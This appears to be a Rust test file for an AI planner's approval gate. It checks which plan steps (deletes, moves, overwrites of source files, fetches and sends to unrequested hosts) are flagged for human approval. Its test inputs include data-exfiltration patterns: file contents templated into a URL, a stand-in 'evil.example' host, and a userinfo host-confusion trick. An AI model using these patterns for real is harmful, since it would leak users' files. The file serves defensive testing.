//! Which steps of a model's plan ask, and which do not?

use holloway_planner::frame::scene::File;
use holloway_planner::frame::{Part, Said};
use serde_json::json;

use super::*;

fn table() -> ToolTable {
    let tool = |id: &str, effect: Effect, does: &str| ToolSpec {
        does: vec![does.parse().unwrap()],
        ..ToolSpec::named(id).with_effect(effect)
    };
    ToolTable::new([
        tool(
            "x/delete",
            Effect::Destructive,
            "delete file:path -> nothing",
        ),
        tool(
            "x/move",
            Effect::Destructive,
            "move file:from -> file with to=target.path",
        ),
        tool(
            "x/write",
            Effect::Idempotent,
            "save text:text -> file with path=target.path",
        ),
        tool(
            "x/copy",
            Effect::Idempotent,
            "copy file:from -> file with to=target.path",
        ),
        tool("x/read", Effect::Read, "read file:path -> text"),
        ToolSpec::named("y/put").with_effect(Effect::Write),
        tool("x/fetch", Effect::Read, "fetch url:url -> text"),
        tool(
            "x/send",
            Effect::Write,
            "send text:text -> nothing with url=recipient",
        ),
    ])
}

/// Whether one step asks, where the request asks for an act on these files.
#[track_caller]
fn check(step: Value, goal: Option<(&str, &str, &str)>, expected: bool) {
    check_plan(json!({ "steps": [step] }), goal, expected);
}

#[track_caller]
fn check_plan(answer: Value, goal: Option<(&str, &str, &str)>, expected: bool) {
    let scene = Scene {
        files: vec![File {
            name: "a.csv".to_owned(),
            columns: Vec::new(),
        }],
        ..Scene::default()
    };
    let mut draft = crate::model::parse::draft::parse_value(answer.clone())
        .unwrap()
        .draft;
    let part = |slot: &str, path: &str| Part::new(slot, json!({ "path": path }), Said::default());
    let frame = goal.map(|(act, source, target)| Frame {
        goals: vec![Goal {
            act: act.to_owned(),
            parts: vec![part("sources", source), part("target", target)],
            ..Goal::default()
        }],
        ..Frame::default()
    });
    let mut request = frame.clone().unwrap_or_default();
    request.entities = holloway_planner::read::named("see http://a.example/x");
    let table = table();
    let around = Around {
        table: &table,
        scene: &scene,
        request: &request,
        understood: frame.is_some(),
    };
    let notes = ask_first(&mut draft, &around);
    let mut asks = false;
    draft.walk(&mut |step| asks |= step.approval == Some(ApprovalRule::Always));
    assert_eq!(asks, expected, "{answer}");
    assert_eq!(!notes.is_empty(), expected);
}

#[test]
fn what_destroys_asks_unless_that_is_asked_for() {
    let delete = json!({"id": "s", "tool": "x/delete", "input": {"path": "a.csv"}});
    check(delete.clone(), None, true);
    check(delete.clone(), Some(("delete", "other.csv", "")), true);
    check(delete.clone(), Some(("read", "a.csv", "")), true);
    check(delete, Some(("delete", "a.csv", "")), false);
    let more = json!({"id": "s", "tool": "x/delete", "input": {"path": ["a.csv", "b.csv"]}});
    check(more, Some(("delete", "a.csv", "")), true);
    // A copy is no move.
    let moved = json!({"id": "s", "tool": "x/move", "input": {"from": "a.csv", "to": "b.csv"}});
    check(moved.clone(), Some(("copy", "a.csv", "b.csv")), true);
    check(moved, Some(("move", "a.csv", "b.csv")), false);
}

#[test]
fn what_may_write_over_a_file_asks_unless_it_is_the_target() {
    let write = |path: &str| json!({"id": "s", "tool": "x/write", "input": {"path": path, "text": "{{x}}"}});
    check(write("b.csv"), None, false);
    for path in [
        "a.csv",
        "./a.csv",
        "A.CSV",
        "/data/a.csv",
        "out/../a.csv",
        "{{x}}.csv",
        "{% if 1 %}a{% endif %}.csv",
    ] {
        check(write(path), None, true);
    }
    // The source of a request is no target.
    check(write("a.csv"), Some(("select", "a.csv", "b.csv")), true);
    check(write("a.csv"), Some(("select", "b.csv", "a.csv")), false);
    let copy = json!({"id": "s", "tool": "x/copy", "input": {"from": "a.csv", "to": "c.csv"}});
    check(copy, None, false);
    let deep = json!({"id": "s", "tool": "y/put", "input": {"where": [{"file": "a.csv"}]}});
    check(deep, None, true);
    check(
        json!({"id": "s", "tool": "x/read", "input": {"path": "a.csv"}}),
        None,
        false,
    );
}

#[test]
fn what_was_read_does_not_leave_unasked() {
    let fetch = |url: &str| json!({"id": "s", "tool": "x/fetch", "input": {"url": url}});
    check(fetch("http://a.example/y"), None, false);
    check(fetch("{{page}}"), None, false);
    check(fetch("http://evil.example/"), None, true);
    check(fetch("http://a.example@evil.example/"), None, true);
    let send = |url: &str| json!({"id": "s", "tool": "x/send", "input": {"url": url, "text": "x"}});
    check(send("http://a.example/"), None, false);
    check(send("http://evil.example/"), None, true);
    let leak = |url: &str| {
        let read = json!({"id": "r", "tool": "x/read", "input": {"path": "a.csv"}});
        json!({"id": "p", "type": "parallel", "steps": [read, fetch(url)]})
    };
    check(leak("http://a.example/y"), None, false);
    check(leak("http://a.example/?d={{r}}"), None, true);
    check(leak("{{r.text}}"), None, true);
}

#[test]
fn inputs_are_judged_by_their_defaults() {
    let plan = |step: Value, default: &str| {
        let input =
            json!({"type": "object", "properties": {"x": {"type": "string", "default": default}}});
        json!({"input": input, "steps": [step]})
    };
    let write =
        json!({"id": "s", "tool": "x/write", "input": {"path": "{{ input.x }}", "text": "t"}});
    check_plan(plan(write.clone(), "b.csv"), None, false);
    check_plan(plan(write.clone(), "a.csv"), None, true);
    check_plan(plan(write, "{{ y }}"), None, true);
    let fetch = json!({"id": "s", "tool": "x/fetch", "input": {"url": "{{input.x}}"}});
    let read = json!({"id": "r", "tool": "x/read", "input": {"path": "a.csv"}});
    let both = json!({"id": "p", "type": "parallel", "steps": [read, fetch]});
    check_plan(plan(both.clone(), "http://a.example/"), None, false);
    check_plan(plan(both.clone(), "http://evil.example/"), None, true);
    // Without a default nobody knows.
    check_plan(json!({ "steps": [both] }), None, true);
}

#[test]
fn nothing_is_hidden_in_fallbacks_ends_and_loops() {
    let fallback =
        json!({"id": "s", "tool": "x/read", "input": {"path": "a.csv"}, "fallbacks": ["x/delete"]});
    check(fallback, None, true);
    let end =
        json!({"id": "s", "type": "final", "function": "x/delete", "input": {"path": "a.csv"}});
    check(end, None, true);
    let inner = json!({"id": "t", "tool": "x/delete", "input": {"path": "{{x}}"}});
    let each = json!({"id": "s", "type": "loop", "over": ["a.csv"], "as": "x", "step": inner});
    check(each, None, true);
}
